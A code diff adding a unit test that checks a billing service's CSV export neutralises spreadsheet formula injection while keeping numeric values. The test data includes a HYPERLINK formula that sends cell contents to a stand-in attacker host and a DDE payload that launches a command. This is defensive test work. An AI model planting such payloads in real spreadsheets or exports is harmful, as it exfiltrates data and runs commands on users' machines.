@@ -184,6 +184,33 @@ TEST_P(BillingTest, EstimatesWithEitherTokenKindAndOnlyForTheOwner) {
   }
 }
 
+// A usage file is written by whoever names the resources: a formula in a text field must reach
+// the customer's spreadsheet as text (OWASP CSV injection), while our own numbers stay numbers.
+TEST_P(BillingTest, DetailCsvNeutralisesFormulasFromUsageFilesAndKeepsNumbers) {
+  std::string csv = kHeader;
+  // Line() quotes the category; quotes inside it are doubled as RFC 4180 wants.
+  csv += Line("cust-1", "sub-a", "2025-03-01",
+              "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")", "f1", "0.5", "2");
+  csv += Line("cust-1", "sub-a", "2025-03-02", "@SUM(1+1)*cmd|' /C calc'!A0", "f2", "1", "1");
+  csv += Line("cust-1", "sub-a", "2025-03-03", "+1+1", "f3", "1", "1");
+  csv += Line("cust-1", "sub-a", "2025-03-04", "-2+3", "f4", "1", "1");
+  csv += Line("cust-1", "sub-a", "2025-03-05", "\t=1", "f5", "1", "1");
+  csv += Line("cust-1", "sub-a", "2025-03-06", "Storage", "f6", "0.25", "10.5");
+  Import("formulas.csv", csv);
+  auto detail = Get("/api/v1/billing/ACME/detail.csv?month=2025-03", Login("admin@acme.example"));
+  ASSERT_EQ(detail.status, 200) << detail.body;
+  EXPECT_EQ(detail.body,
+            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency\r\n"
+            // (rows in subscription, category, day order)
+            "sub-a,\"'\t=1\",2025-03-05,1,1,USD\r\n"
+            "sub-a,\"'+1+1\",2025-03-03,1,1,USD\r\n"
+            "sub-a,\"'-2+3\",2025-03-04,1,1,USD\r\n"
+            "sub-a,\"'=HYPERLINK(\"\"http://evil.example/"
+            "?\"\"&A1,\"\"Click\"\")\",2025-03-01,2,1.0,USD\r\n"
+            "sub-a,\"'@SUM(1+1)*cmd|' /C calc'!A0\",2025-03-02,1,1,USD\r\n"
+            "sub-a,Storage,2025-03-06,10.5,2.625,USD\r\n");
+}
+
 TEST_P(BillingTest, MonthCloseOnceThenReconciliation) {
   std::string march = kHeader +
                       Line("cust-1", "sub-a", "2024-03-05", "Storage", "m1", "0.125", "10.05") +
